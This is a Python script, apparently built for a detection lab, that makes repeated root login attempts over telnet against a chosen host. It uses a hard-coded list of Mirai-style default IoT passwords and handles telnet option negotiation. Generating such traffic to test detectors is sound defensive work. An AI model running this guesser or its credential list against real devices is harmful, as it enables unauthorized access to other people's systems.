#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A telnet password guesser for the detection lab: tries --attempts wrong passwords for root
against --host, one login prompt after another, as Mirai-style bots do."""
import argparse
import socket
import time

parser = argparse.ArgumentParser()
parser.add_argument("--host", required=True)
parser.add_argument("--attempts", type=int, default=6)
args = parser.parse_args()
PASSWORDS = ["xc3511", "vizxv", "admin", "888888", "xmhdipc", "default", "juantech", "123456"]


def read_until(sock, words, timeout=8.0):
    sock.settimeout(0.5)
    data = b""
    end = time.time() + timeout
    while time.time() < end:
        try:
            chunk = sock.recv(4096)
        except socket.timeout:
            continue
        if not chunk:
            break
        # Refuse every option the server asks for (IAC DO/WILL x -> IAC WONT/DONT x).
        out = b""
        i = 0
        while i < len(chunk):
            if chunk[i] == 255 and i + 2 < len(chunk) and chunk[i + 1] in (251, 252, 253, 254):
                reply = 254 if chunk[i + 1] in (251, 252) else 252
                out += bytes([255, reply, chunk[i + 2]])
                i += 3
                continue
            data += chunk[i:i + 1]
            i += 1
        if out:
            sock.sendall(out)
        if any(w in data.lower() for w in words):
            return data
    return data


done = 0
connections = 0
while done < args.attempts and connections < 2 * args.attempts:  # give up on a silent server
    connections += 1
    sock = socket.create_connection((args.host, 23), timeout=5)
    for _ in range(3):  # login(1) allows a few tries per connection
        if done >= args.attempts:
            break
        if b"login" not in read_until(sock, [b"login:"]).lower():
            break
        sock.sendall(b"root\r\n")
        read_until(sock, [b"password:"])
        sock.sendall(PASSWORDS[done % len(PASSWORDS)].encode() + b"\r\n")
        done += 1
        read_until(sock, [b"incorrect", b"login:"], timeout=6)
    sock.close()
print("attempts:", done)
